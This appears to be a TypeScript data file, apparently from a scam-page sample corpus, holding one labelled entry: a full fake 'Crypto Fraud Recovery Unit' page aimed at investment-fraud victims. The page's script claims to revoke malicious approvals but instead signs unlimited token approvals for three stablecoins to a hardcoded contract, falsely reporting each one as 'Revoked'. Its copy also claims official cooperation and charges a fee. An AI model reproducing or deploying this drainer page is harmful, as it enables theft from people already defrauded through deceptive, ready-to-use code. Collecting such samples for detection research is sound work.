import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { b64, doc } from '../parts/ye-kit.js';

export const entries: Entry[] = [
{
  id: 'ye-crypto-recovery-revoke-approval-drain',
  label: 'cryptodrainer',
  kind: 'recovery-scam-drainer',
  url: 'https://cryptofraud-recovery-unit.org/revoke',
  body: doc({
    title: 'Crypto Fraud Recovery Unit — Revoke Malicious Approvals',
    css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#0f1d2e;color:#e8eef5}.h{padding:16px 28px;border-bottom:1px solid #243a55;display:flex;justify-content:space-between}.c{max-width:720px;margin:30px auto;padding:0 18px}.badge{display:inline-block;background:#173a5e;padding:4px 10px;border-radius:10px;font-size:12px}.card{background:#15283f;border-radius:10px;padding:20px;margin-top:18px}button{background:#00b386;color:#fff;border:0;padding:13px 28px;border-radius:8px;font-size:16px}#log{font-family:monospace;font-size:12px;color:#8fd}`,
    body: `<div class="h"><b>&#9878; Crypto Fraud Recovery Unit</b><span>In cooperation with state consumer-protection offices</span></div>
<div class="c"><span class="badge">Case intake &middot; Victims of investment fraud</span><h1>Stop scammers from draining more funds</h1>
<p>Scam platforms often leave hidden token approvals on victims' wallets. Connect your wallet and our recovery contract will revoke every malicious approval and begin tracing your lost funds. Free for victims.</p>
<div class="card"><h3>Step 1 &mdash; Scan &amp; revoke</h3><button id="scan">Connect wallet and scan</button><div id="log"></div></div>
<p style="font-size:12px;color:#8aa">Recovery fees (15%) are only charged after funds are returned.</p></div>
<script>
var RC='0x3c9E1fD0b7a4A2e58f6B1dC7a09E34f2bD8C5a17';
var TK=['0xdAC17F958D2ee523a2206206994597C13D831ec7','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48','0x6B175474E89094C44Da98b954EedeAC495271d0F'];
function log(t){document.getElementById('log').innerHTML+=t+'<br>';}
function pad(h){return h.replace('0x','').toLowerCase().padStart(64,'0');}
document.getElementById('scan').onclick=async function(){
 if(!window.ethereum){log('No wallet detected. Install MetaMask and reload.');return;}
 var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];log('Connected: '+a);log('Scanning approvals...');
 for(var i=0;i<TK.length;i++){log('Malicious approval found on '+TK[i].slice(0,10)+' &mdash; confirm revoke in wallet');
  var data='0x095ea7b3'+pad(RC)+'f'.repeat(64);
  try{await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:TK[i],data:data}]});log('Revoked.');}catch(e){log('Skipped.');}}
 log('Scan complete. An investigator will contact you.');
};
</script>`,
  }),
},
];
